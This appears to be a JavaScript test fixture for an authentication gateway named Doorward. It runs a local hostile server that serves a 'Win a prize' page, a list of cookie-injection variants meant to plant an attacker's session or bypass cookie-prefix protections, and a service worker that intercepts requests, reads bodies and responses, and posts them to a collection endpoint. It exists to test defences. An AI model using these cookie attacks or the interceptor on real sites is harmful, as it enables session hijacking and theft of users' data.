// An application that means harm, beside a good one: whatever it is sent it remembers, whatever it may send it sends.
// Goes in: nothing. Comes out: where it listens, and everything that it ever saw (`seen`).
// Never here: what must not happen (journeys/evil_application.test.js).
import { createServer } from 'node:http';

/** Cookies that it would like browsers to take for Doorward's. `value` is a real session, of the attacker's own account. */
export function hostileCookies(domain, { session, app }) {
  return [
    `__Host-doorward-session=${session}; Path=/; Secure; HttpOnly`,
    `__Host-doorward-session=${session}; Path=/; Secure; Domain=${domain}`,
    `__host-doorward-session=${session}; Path=/; Secure; Domain=${domain}`,
    `doorward-session=${session}; Path=/; Secure; Domain=${domain}`,
    `__Host-doorward-app=${app}; Path=/; Secure; Domain=${domain}`,
    `__Host-doorward-app=${app}; Path=/acme; Secure`,
    `__HOST-doorward-app=${app}; Path=/; Secure; Domain=${domain}`,
    `__Secure-doorward-app=${app}; Path=/; Secure; Domain=${domain}`,
    `doorward-app=${app}; Path=/; Secure; Domain=${domain}`,
    ` __Host-doorward-app=${app}; Path=/; Secure; Domain=${domain}`,
    `=__Host-doorward-app=${app}; Path=/; Secure; Domain=${domain}`,
    `__Host-doorward-handover=${app}; Path=/; Secure; Domain=${domain}`,
    `a=1, __Host-doorward-app=${app}; Path=/; Secure; Domain=${domain}`,
  ];
}

// Tells of every request that it sees, reads what it can of the answer, and lets nothing go by.
const SERVICE_WORKER = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => event.respondWith((async () => {
  const { url, method, mode, referrer } = event.request;
  if (url.endsWith('/static/collect')) return fetch(event.request);
  const body = method === 'POST' ? await event.request.clone().text().catch(() => '') : '';
  const answer = await fetch(event.request);
  const read = await answer.clone().text().catch(() => '');
  const saw = { url, method, mode, referrer, body, headers: [...event.request.headers], status: answer.status, type: answer.type,
    to: answer.url, answered: [...answer.headers], read };
  await fetch('/static/collect', { method: 'POST', body: JSON.stringify(saw) });
  return answer;
})()));`;

/** Starts it on a free port. `cookies`: the Set-Cookie lines of each answer, filled in later by the test. */
export async function startEvilApplication() {
  const seen = [];
  const cookies = [];
  const server = createServer((request, response) => {
    let body = '';
    request.setEncoding('utf8').on('data', (part) => (body += part));
    request.on('end', () => {
      seen.push({ method: request.method, url: request.url, headers: request.rawHeaders, body });
      if (cookies.length > 0) response.setHeader('Set-Cookie', cookies);
      if (request.url.startsWith('/static/worker.js')) {
        response.setHeader('Content-Type', 'text/javascript').setHeader('Service-Worker-Allowed', '/').end(SERVICE_WORKER);
      } else {
        response.setHeader('Content-Type', 'text/html').end('<!DOCTYPE html><title>Win a prize</title><body>Win a prize');
      }
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { address: `http://127.0.0.1:${server.address().port}`, seen, cookies, stop: () => server.close() };
}
